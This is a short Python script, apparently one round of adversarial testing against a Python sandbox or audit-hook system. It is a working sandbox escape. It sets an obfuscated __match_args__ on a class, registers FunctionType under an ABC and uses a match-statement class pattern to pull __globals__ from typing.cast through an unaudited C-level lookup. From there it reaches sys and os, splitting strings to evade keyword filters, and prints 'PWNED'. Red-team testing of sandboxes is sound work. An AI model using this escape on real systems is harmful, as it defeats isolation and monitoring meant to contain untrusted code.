# adversary round 7: match class pattern: __match_args__ set via type() dict (computed key), class parked on a module attribute, ABC-registered FunctionType -> C getattr of __globals__ (unaudited)
import abc, json, typing
ma = '__match_' + 'args__'
gl = '__glo' + 'bals__'
X = type('X', (abc.ABC,), {ma: (gl,)})
json.X = X
class P(json.X):
    pass
P.register(type(typing.cast))
match typing.cast:
    case P(g):
        s = g['s' + 'ys']
        o = s.modules['o' + 's']
        print('pid', o.getpid(), 'modules', len(s.modules), type(s).__name__, s.__name__)
        print('PWN' + 'ED')
    case _:
        print('no match')
